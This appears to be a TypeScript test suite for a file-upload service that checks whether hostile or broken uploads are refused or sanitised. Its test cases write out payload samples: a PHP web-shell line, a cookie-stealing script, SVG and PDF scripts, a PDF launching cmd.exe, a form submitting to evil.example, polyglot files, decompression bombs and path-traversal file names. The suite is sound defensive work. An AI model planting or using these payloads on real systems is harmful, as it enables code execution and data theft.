import assert from 'node:assert/strict'
import { randomBytes, randomUUID } from 'node:crypto'
import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { Hono } from 'hono'
import sharp from 'sharp'
import { runApart } from './apart.ts'
import { exampleNow, examplePdf, examplePhoto, exampleRoom, type FileRoom } from './examples.ts'
import { heicSize } from './heicSize.ts'
import type { DecodedHeic, HeicWork } from './heicWorker.ts'
import {
  blackPng,
  heicClaiming,
  iphonePhoto,
  jpegClaiming,
  jpegWith,
  largeHeic,
  pdfPacking,
  pdfWith,
  pngText,
  withChunk,
  zipOf,
} from './hostileExamples.ts'
import { type ReceivedFile, receive } from './receive.ts'
import { type FileRefusal, refusalStatus, refusalWords } from './refusal.ts'
import { serveFile, type Variant } from './serve.ts'

let room: FileRoom
let photo: Buffer
let drawing: Buffer

const script = '<html><script>alert(document.cookie)</script></html>'
const php = '<?php system($_GET["c"]); ?>'
const launch = '<< /S /Launch /F (cmd.exe) >>'

/** File, how it is called, the code of the refusal, and what the person is told. */
type Case = [what: string, bytes: () => Buffer | Promise<Buffer>, name: string, code: FileRefusal['code'], words: RegExp]

const cases: Case[] = [
  ['nothing', () => Buffer.alloc(0), 'IMG_1.jpg', 'empty', /是空的.*请重新拍/],
  ['a program', () => Buffer.concat([Buffer.from('MZ'), randomBytes(400)]), 'a.jpg', 'wrongFormat', /照片或 PDF。请用相机直接拍/],
  ['a page with a script', () => Buffer.from(script), 'a.html', 'wrongFormat', /\.html/],
  ['a drawing with a script', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'a.svg', 'wrongFormat', /\.svg/],
  ['a program of a server', () => Buffer.from(php), 'a.php', 'wrongFormat', /\.php/],
  ['an archive called a photograph', () => zipOf('a.txt', 'x'), 'a.jpg', 'wrongFormat', /\.zip/],
  ['another kind of picture', () => sharp(photo).webp().toBuffer(), 'a.png', 'wrongFormat', /\.webp/],
  ['noise', () => randomBytes(4000), 'a.pdf', 'wrongFormat', /认不出/],

  ['a PNG of 50,000 x 50,000', () => blackPng(50_000, 50_000, 10), 'a.png', 'tooManyPixels', /2500 百万像素.*普通模式/],
  ['a JPEG that says 65,500 x 65,500', () => jpegClaiming(photo, 65_500, 65_500), 'a.jpg', 'tooManyPixels', /4290 百万像素/],
  ['a picture of one point', () => blackPng(1, 1), 'a.png', 'tooFewPixels', /太小.*重新拍/],
  ['half a JPEG', () => photo.subarray(0, photo.length / 2), 'a.jpg', 'damaged', /这张照片坏了.*请重新拍/],
  ['half a PNG', () => drawing.subarray(0, drawing.length / 2), 'a.png', 'damaged', /坏了/],
  ['the beginning of a JPEG and a ZIP', () => Buffer.concat([photo.subarray(0, 600), zipOf('a', 'b')]), 'a.jpg', 'damaged', /坏了/],

  ['a HEIC that says 60,000 x 60,000', () => heicClaiming(60_000, 60_000), 'a.heic', 'tooManyPixels', /3600 百万像素/],
  ['half a HEIC', () => iphonePhoto().subarray(0, 12_000), 'a.heic', 'damaged', /坏了/],
  ['a HEIC of boxes without end', () => Buffer.concat([iphonePhoto().subarray(0, 28), Buffer.alloc(4000)]), 'a.heic', 'damaged', /坏了/],
  ['a HEIC without a picture', () => Buffer.concat([iphonePhoto().subarray(0, 900), randomBytes(3000)]), 'a.heic', 'damaged', /坏了/],

  ['a PDF with a password', () => examplePdf(1, '/Encrypt 9 0 R'), 'a.pdf', 'pdfLocked', /上了锁.*没有密码/],
  ['a PDF of 101 pages', () => examplePdf(101), 'a.pdf', 'pdfTooLong', /有 101 页，最多 100 页。请只留有用的几页/],
  ['half a PDF', () => examplePdf(40).subarray(0, 1500), 'a.pdf', 'damaged', /这个 PDF 坏了.*请重新导出/],
  ['a PDF with a script', () => pdfWith('<< /S /JavaScript /JS (app.alert(1)) >>'), 'a.pdf', 'pdfCarries', /夹带了程序.*打印成新的 PDF/],
  ['its name written otherwise', () => pdfWith('<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>'), 'a.pdf', 'pdfCarries', /夹带/],
  ['a PDF that starts a program', () => pdfWith(launch), 'a.pdf', 'pdfCarries', /夹带/],
  ['the same in an object stream', () => pdfPacking(Buffer.from(`9 0 ${launch}`)), 'a.pdf', 'pdfCarries', /夹带/],
  ['the same in one that is not packed', () => pdfPacking(Buffer.alloc(0), '', Buffer.from(`9 0 ${launch}`)), 'a.pdf', 'pdfCarries', /夹带/],
  [
    'the same packed twice',
    () => pdfPacking(Buffer.alloc(0), '/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(Buffer.from(`9 0 ${launch}`)))),
    'a.pdf',
    'damaged',
    /重新导出/,
  ],
  ['a PDF with an attachment', () => pdfWith('<< /Type /EmbeddedFile /Length 1 >>'), 'a.pdf', 'pdfCarries', /附件/],
  ['a PDF with a form that sends', () => pdfWith('<< /S /SubmitForm /F (http://evil.example) >>'), 'a.pdf', 'pdfCarries', /夹带/],
  ['a PDF with a page behind it', () => Buffer.concat([examplePdf(1), Buffer.from(script)]), 'a.pdf', 'pdfCarries', /别的文件/],
  ['a PDF with an archive behind it', () => Buffer.concat([examplePdf(1), zipOf('a.exe', 'MZ')]), 'a.pdf', 'pdfCarries', /别的文件/],
  ['a PDF that unpacks to 300 MB', () => pdfPacking(Buffer.alloc(300 * 1024 * 1024, ' ')), 'a.pdf', 'damaged', /重新导出/],
]

describe('Hostile and broken files', () => {
  before(async () => {
    room = await exampleRoom()
    photo = await examplePhoto({ orientation: 6 })
    drawing = await sharp(photo).png().toBuffer()
  })
  after(() => room.close())

  async function arrive(bytes: Buffer, name: string): Promise<ReceivedFile | FileRefusal> {
    const path = join(room.folder, randomUUID())
    await writeFile(path, bytes)
    return await receive(room.files, room.db, { path, name }, { area: 'shili', subject: 'page', now: exampleNow })
  }

  async function taken(bytes: Buffer, name = 'a.jpg'): Promise<ReceivedFile> {
    const received = await arrive(bytes, name)
    if ('code' in received) throw new Error(received.code)
    return received
  }

  async function sentOut(file: ReceivedFile, variant: Variant): Promise<{ answer: Response; bytes: Buffer }> {
    const app = new Hono()
    app.get('/', (c) => serveFile(c, room.files, { ...file, area: 'shili', file: file.hash, page: 1 }, variant))
    const answer = await app.request('/')
    return { answer, bytes: Buffer.from(await answer.arrayBuffer()) }
  }

  const everyWay: Variant[] = [
    'thumbnail',
    'view',
    ...(['view', 'full'] as const).map((size) => ({ size, turn: 0, viewer: 'E1', at: exampleNow }) as const),
  ]

  for (const [what, make, name, code, words] of cases) {
    test(`${what}: refused as ${code}, with what to do, and nothing of it is kept`, async () => {
      const answer = await arrive(await make(), name)
      assert.ok('code' in answer, `it was taken as ${JSON.stringify(answer)}`)
      assert.equal(answer.code, code)
      assert.match(refusalWords(answer), words)
      assert.ok([415, 422].includes(refusalStatus(answer)))
      assert.deepEqual(await readdir(room.files.arriving), [])
    })
  }

  test('a photograph that is another file too is taken, and only its picture is ever sent', async () => {
    const carried = ['%PDF-1.7 1 0 obj', script, php, 'PK\x05\x06']
    const both = Buffer.concat([jpegWith(photo, `%PDF-1.7 1 0 obj ${php}`), Buffer.from(script), zipOf('a.exe', php)])
    for (const file of [await taken(both), await taken(withChunk(Buffer.concat([drawing, Buffer.from(script + php)]), pngText(1)), 'a.png')]) {
      for (const variant of everyWay) {
        const { answer, bytes } = await sentOut(file, variant)
        assert.deepEqual([answer.status, answer.headers.get('content-type')], [200, 'image/jpeg'])
        assert.match(answer.headers.get('content-security-policy') ?? '', /^default-src 'none'; sandbox$/)
        for (const text of carried) assert.equal(bytes.includes(text), false, `${text} in ${JSON.stringify(variant)}`)
      }
    }
  })

  test('a PNG whose text unpacks to 200 MB is read without it', async () => {
    const { hints } = await taken(withChunk(drawing, pngText(200)), 'a.png')
    assert.deepEqual([hints.width, hints.height], [900, 1200])
  })

  test('of a photograph with EXIF neither place nor camera is sent in any size, and all are upright', async () => {
    const file = await taken(photo)
    assert.ok((await sharp(photo).metadata()).exif?.includes('Example'))
    for (const variant of everyWay) {
      const { bytes } = await sentOut(file, variant)
      const { exif, xmp, iptc, orientation, width = 0, height = 0 } = await sharp(bytes).metadata()
      assert.deepEqual([exif, xmp, iptc, orientation], [undefined, undefined, undefined, undefined])
      assert.ok(width > height, 'a page that was photographed with the phone turned lies on its side')
      assert.equal(bytes.includes('Exif') || bytes.includes('GPS'), false)
    }
  })

  test('a photograph from an iPhone is kept as an upright JPEG without EXIF, by the hash of that JPEG', async () => {
    const heic = iphonePhoto()
    assert.ok(heic.includes('Exif'))
    assert.deepEqual(await heicSize(await written(heic)), { width: 640, height: 480 })
    const file = await taken(heic, 'IMG_2031.HEIC')
    assert.deepEqual([file.type, file.name, file.hints.width, file.hints.height], ['image/jpeg', 'IMG_2031.jpg', 480, 640])
    assert.deepEqual([file.hints.blurred, file.hints.dark], [undefined, undefined])
    const stored = await room.files.store.open('shili', file.hash)
    const kept = Buffer.concat(await stored.toArray())
    assert.equal(kept.length, file.bytes)
    assert.equal((await sharp(kept).metadata()).exif, undefined)
    // The red mark stands at the top left of what was drawn: turned by a quarter it is at the top right.
    const { data } = await sharp(kept).extract({ left: 460, top: 10, width: 1, height: 1 }).raw().toBuffer({ resolveWithObject: true })
    assert.ok((data[0] ?? 0) > 150 && (data[1] ?? 255) < 80, `red is ${[...data]}`)
    for (const variant of everyWay) assert.equal((await sharp((await sentOut(file, variant)).bytes).metadata()).exif, undefined)
  })

  async function written(bytes: Buffer): Promise<string> {
    const path = join(room.folder, randomUUID())
    await writeFile(path, bytes)
    return path
  }

  test('decoding takes no more memory and time than it is given, and ends nothing but itself', async () => {
    const module = new URL('./heicWorker.ts', import.meta.url)
    const work = (memory: number, pixels = 5e7): HeicWork => ({ path: largeHeic(), pixels, memory })
    const limits = { seconds: 20, megabytes: 64 }
    await assert.rejects(runApart(module, work(1e8), limits), /HEIF processing error/)
    await assert.rejects(runApart(module, work(1e9, 1e6), limits), /larger one than was announced/)
    await assert.rejects(runApart(module, work(1e9), { ...limits, seconds: 0 }), /answered nothing within 0 seconds/)
    assert.equal((await runApart<DecodedHeic>(module, work(1e9), limits)).width, 4032)
  })

  test('a PDF of very many tiny objects is read in time', async () => {
    const many = Array.from({ length: 200_000 }, (_, index) => `${index + 10} 0 obj\n<</A 1>>\nendobj\n`).join('')
    const pdf = examplePdf(1).toString('latin1').replace('xref\n', `${many}xref\n`)
    assert.deepEqual((await taken(Buffer.from(pdf, 'latin1'), 'a.pdf')).hints, { pages: 1 })
  })

  test('a name loses its path, its control characters and what turns the writing round, and is never empty', async () => {
    const names = {
      '../../etc/passwd': 'passwd',
      'C:\\病历\\a\u202egpj.exe': 'agpj.exe',
      'a\r\nSet-Cookie: x=1.jpg': 'aSet-Cookie: x=1.jpg',
      '\0\u0007 ': '未命名',
      '王秀兰身份证.jpg': '文件.jpg',
      '410221195903150428.png': '文件.png',
    }
    for (const [name, kept] of Object.entries(names)) assert.equal((await taken(photo, name)).name, kept)
    assert.equal((await taken(photo, `${'a'.repeat(300)}.jpg`)).name.length, 100)
  })
})
